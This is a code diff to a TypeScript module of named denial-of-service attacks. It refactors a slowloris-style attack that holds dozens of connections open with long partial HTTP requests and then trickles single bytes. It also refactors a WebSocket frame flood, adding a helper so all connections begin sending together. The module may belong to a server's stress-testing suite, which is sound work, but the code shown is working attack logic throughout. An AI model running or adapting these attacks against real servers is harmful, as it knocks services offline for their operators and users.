@@ -190,17 +190,13 @@ export const ATTACKS = {
 
   "requests byte by byte": (target) => {
     const { connections = 40 } = target;
-    // Those that begin first would keep the others of this process from sending
-    // anything, which would be greeted as people then.
-    const allBegun = Promise.withResolvers<void>();
-    let begun = 0;
+    const allBegun = together(connections);
     return persisting(target, { connections }, async (one, index) => {
       // The longer the line before it, the more a byte may cost.
       const line = `GET /${"x".repeat(7_900)}`;
       const isHead = index % 2 === 0;
       await one.send(isHead ? `${line} HTTP/1.1\r\nHost: a\r\nX: ` : line);
-      if (++begun === connections) allBegun.resolve();
-      await oneOf(allBegun.promise, target.over);
+      await oneOf(allBegun(), target.over);
       while (!one.isEnded && !target.over.aborted) await one.send("x");
     });
   },
@@ -738,6 +734,20 @@ async function persisting(
   }));
 }
 
+/**
+ * Lets connections go on once all of them have begun. The first would keep the
+ * others of this process from sending anything otherwise: these would be greeted
+ * as people, and take part in the talk.
+ */
+function together(connections: number): () => Promise<void> {
+  const { promise, resolve } = Promise.withResolvers<void>();
+  let begun = 0;
+  return () => {
+    if (++begun === connections) resolve();
+    return promise;
+  };
+}
+
 /** Sends the same bytes again and again, as fast as they are taken. */
 function pouring(target: Target, bytes: Uint8Array): Promise<void> {
   return persisting(target, { connections: 4 }, async (one, index) => {
@@ -750,11 +760,14 @@ function pouring(target: Target, bytes: Uint8Array): Promise<void> {
 /** Sends a frame again and again, as fast as they are taken, once a WebSocket is open. */
 function pouringFrames(target: Target, frame: Uint8Array): Promise<void> {
   const AT_ONCE = 10_000;
+  const { connections = 4 } = target;
+  const allBegun = together(connections);
   const frames = concat(Array(AT_ONCE).fill(frame));
-  return persisting(target, { connections: 4 }, async (one) => {
+  return persisting(target, { connections }, async (one) => {
     await one.send(nextUpgrade());
     // The first part of a message, which the fragments go on with.
     if (frame[0] === 0) await one.send(Uint8Array.of(0x01, 0x80, 0, 0, 0, 0));
+    await oneOf(allBegun(), target.over);
     while (!one.isEnded && !target.over.aborted) await one.send(frames);
   });
 }
